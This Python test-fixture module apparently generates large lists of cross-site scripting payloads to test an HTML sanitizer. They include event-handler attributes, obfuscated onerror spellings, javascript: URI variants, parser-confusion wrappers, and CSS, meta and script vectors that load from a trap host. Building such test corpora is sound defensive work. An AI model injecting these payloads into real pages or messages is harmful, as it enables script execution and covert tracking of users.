"""The ways of vectors.py by the hundred: what differs between one trick and the next, combined."""

from __future__ import annotations

from tests.inbox.vectors import TRAP

_RUN = "alert(1)"


def _words(text: str) -> list[str]:
    return text.split()


def _lines(text: str) -> list[str]:
    return text.strip().splitlines()


# --- What runs -----------------------------------------------------------------------------------

_EVENTS = _words("""
abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut
beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay
change click close contextmenu copy cuechange cut dblclick drag dragend dragenter dragstart drop durationchange
end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input
invalid keydown keyup load loadeddata loadedmetadata loadstart message mousedown mouseenter mousemove mouseout
mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointerdown pointerenter pointermove
pointerover pointerrawupdate popstate progress ratechange repeat reset resize scroll scrollend scrollsnapchange
search securitypolicyviolation seeked select selectstart show slotchange start stalled storage submit suspend
timeupdate toggle touchstart transitionend unhandledrejection unload volumechange webkitanimationstart wheel
""")
_HOSTS = [
    ("<img src=x {}>", "<td {} tabindex=1 autofocus>x</td>", "<details open {}><summary>x</summary></details>"),
    ("<svg {}></svg>", "<p {} style='animation:x 1s'>x</p>", "<body {}>"),
    ("<video src=x {}></video>", "<a href=x {}>x</a>", "<div {} contenteditable>x</div>"),
]
HANDLERS = [_HOSTS[place % 3][place // 3 % 3].format(f"on{event}={_RUN}") for place, event in enumerate(_EVENTS)]
_SPELLINGS = [
    "{0}ONERROR={1}",
    "{0}onerror ={1}",
    "{0}onerror\n=\n{1}",
    "{0}onerror\t={1}",
    "{0}onerror='{1}'",
    '{0}onerror="{1}"',
    "{0}onerror=`{1}`",
    "{0}onerror=\x0c{1}",
    "{0}/onerror={1}/",
    "{0}x=1onerror={1}",
    "{0}\x00onerror={1}",
    '{0}alt="`>"onerror={1}',
    "{0}onerror=&#97;lert(1)",
    "{0}onerror=\\u0061lert(1)",
    "{0}OnErRoR={1}//",
    "{0}onerror={1};//",
    "{0}'onerror={1}'",
    '{0}""onerror={1}',
    "{0}<b onerror={1}",
    "{0}=onerror={1}",
]
SPELT = [f"<img src=x {spelling.format('', _RUN)}>" for spelling in _SPELLINGS]

_SCHEMES = [
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"&#x6A;avascript:{_RUN}",
    f"&#106;&#97;vascript&colon;{_RUN}",
    f"javascript://%0a{_RUN}",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"feed:javascript:{_RUN}",
    f"view-source:javascript:{_RUN}",
    "blob:http://x.example/1",
    f"\u3000javascript:{_RUN}",
    f"livescript:{_RUN}",
]
_PLACES = _lines("""
<a href="{}">click</a>
<iframe src="{}"></iframe>
<form action="{}"><input type=submit autofocus></form>
<object data="{}"></object>
<embed src="{}">
<img src="{}">
<svg><a xlink:href="{}"><text>click</text></a></svg>
<meta http-equiv=refresh content="0;url={}">
<base href="{}">
<button formaction="{}">x</button>
""")
SCRIPT_ADDRESSES = [place.format(scheme) for place in _PLACES for scheme in _SCHEMES]

_WRAPPERS = _lines("""
<math><mtext><table><mglyph><style>{}</style></mglyph></table></mtext></math>
<svg><style>{}</style></svg>
<svg><title>{}</title></svg>
<svg><desc>{}</desc></svg>
<svg><foreignObject>{}</foreignObject></svg>
<math><mi>{}</mi></math>
<noscript>{}</noscript>
<noembed>{}</noembed>
<noframes>{}</noframes>
<template>{}</template>
<select>{}</select>
<select><option>{}</select>
<textarea>{}
<title>{}</title>
<xmp>{}</xmp>
<plaintext>{}
<table>{}</table>
<table><tr>{}</table>
<frameset>{}</frameset>
<svg></p><style>{}
<math></p><style>{}
<!--{}-->
<!--!>{}
<?{}?>
<![CDATA[{}]]>
</ {}>
<p title='{}'>
<p title="--><!--{}">
<svg><![CDATA[{}]]></svg>
<form><math><mtext></form>{}
""")
_INNER = [f"<img src=x onerror={_RUN}>", f"<a title='</style><script>{_RUN}</script>'>", f"--><script>{_RUN}</script>"]
REPARSED = [wrapper.format(inner) for wrapper in _WRAPPERS for inner in _INNER]

RUNNING = [*HANDLERS, *SPELT, *SCRIPT_ADDRESSES, *REPARSED]

# --- What reaches out ----------------------------------------------------------------------------

_LOADING = _words("""
a:ping applet:archive applet:code applet:codebase audio:src base:href bgsound:src blockquote:cite
body:background button:formaction command:icon del:cite embed:code embed:pluginspage embed:src fencedframe:src
form:action frame:longdesc frame:src head:profile html:manifest iframe:longdesc iframe:src iframe:srcdoc
image:href image:src image:xlink:href img:dynsrc img:longdesc img:lowsrc img:src img:srcset img:usemap
input:formaction input:src ins:cite isindex:action layer:background layer:src link:href link:imagesrcset
menuitem:icon model:src object:archive object:classid object:codebase object:data object:usemap param:value
picture:src portal:src q:cite script:src script:xlink:href source:src source:srcset svg:href table:background
tbody:background td:background th:background tr:background track:src use:href use:xlink:href video:poster
video:src xml:src feImage:href animate:href font-face-uri:xlink:href mpath:href textPath:href
""")
_FORMS = ["http://{host}/{n}", "//{host}/{n}", "HTTP://{host}/{n}.png?a=1&b=2"]
_RELS = _words("""
stylesheet prefetch preload modulepreload prerender preconnect dns-prefetch icon apple-touch-icon manifest
import alternate pingback search subresource compression-dictionary shortcut next author license
""")
_PROPERTIES = _words("""
background background-image border-image border-image-source list-style list-style-image cursor content mask
mask-image -webkit-mask-image filter clip-path shape-outside behavior -moz-binding fill stroke marker-start
offset-path src
""")
_VALUES = [
    "url({})",
    "url('{}')",
    "u\\72l({})",
    "image-set('{}' 1x)",
    "-webkit-image-set(url({}) 1x)",
    "image({})",
    "cross-fade(url({}),url({}),50%)",
    "var(--x,url({}))",
]
_SHEETS = _lines("""
@import '{}';
@import url({});
@import url({}) layer(x);
@namespace url({});
@font-face{{font-family:x;src:url({})}}*{{font:9px x}}
a:visited{{background:url({})}}
[data-x^=a]{{background:url({})}}
input[value^=a]{{background:url({})}}
:host{{background:url({})}}
::part(x){{background:url({})}}
@media screen{{*{{background:url({})}}}}
@supports(x:y) or (color:red){{*{{background:url({})}}}}
*{{--x:url({});background:var(--x)}}
body::before{{content:url({})}}
@property --x{{syntax:'<url>';inherits:true;initial-value:url({})}}
@counter-style x{{system:cyclic;symbols:url({})}}
""")
_OTHERS = _lines("""
<meta http-equiv="refresh" content="0;url={}">
<meta http-equiv="Link" content="<{}>;rel=stylesheet">
<meta http-equiv="Content-Security-Policy" content="default-src *;report-uri {}">
<meta http-equiv="Set-Cookie" content="a=b">
<script>fetch('{}')</script>
<script>navigator.sendBeacon('{}')</script>
<script>new WebSocket('{}')</script>
<script type="speculationrules">{{"prefetch":[{{"urls":["{}"]}}]}}</script>
<script type="importmap">{{"imports":{{"x":"{}"}}}}</script>
<xml-stylesheet href='{}'>
<?xml-stylesheet href='{}'?>
<!DOCTYPE x SYSTEM '{}'>
<!ENTITY x SYSTEM '{}'>
<object type="text/html" data="{}"><param name=src value="{}"></object>
<img src="x" srcset=", {} 1x" sizes="1px">
<picture><source srcset="{}" type="image/webp"><source srcset="{} 2x"><img></picture>
<div data-remote='{}' data-src='{}'>x</div>
<svg><filter><feImage href="{}"/></filter><image href="{}"/><use href="{}#x"/></svg>
<video controls poster="{}"><source src="{}"></video>
""")


def reaching_out(host: str = TRAP.removeprefix("http://")) -> list[str]:
    """Bodies that would ask `host` for something, each for a path of its own."""
    found: list[str] = []
    for pair in _LOADING:
        tag, attribute = pair.split(":", 1)
        found += [
            f'<{tag} {attribute}="{_address(form, host, len(found) + n)}">x</{tag}>' for n, form in enumerate(_FORMS)
        ]
    found += [f'<link rel="{rel}" href="{_address(_FORMS[0], host, n)}" as="image">' for n, rel in enumerate(_RELS)]
    for n, name in enumerate(_PROPERTIES):
        value = _VALUES[n % len(_VALUES)].replace("{}", _address(_FORMS[n % 2], host, 1000 + n))
        found += [f'<p style="{name}:{value}">x</p>', f"<style>p{{{name}:{value}}}</style><p>x</p>"]
    found += [
        f'<b style="background:{value}">x</b>'.replace("{}", f"http://{host}/v{n}") for n, value in enumerate(_VALUES)
    ]
    found += [f"<style>{sheet.format(f'http://{host}/s{n}')}</style><p>x</p>" for n, sheet in enumerate(_SHEETS)]
    found += [
        other.replace("{{", "{").replace("}}", "}").replace("{}", f"http://{host}/o{n}")
        for n, other in enumerate(_OTHERS)
    ]
    return found


def _address(form: str, host: str, number: int) -> str:
    return form.format(host=host, n=number)
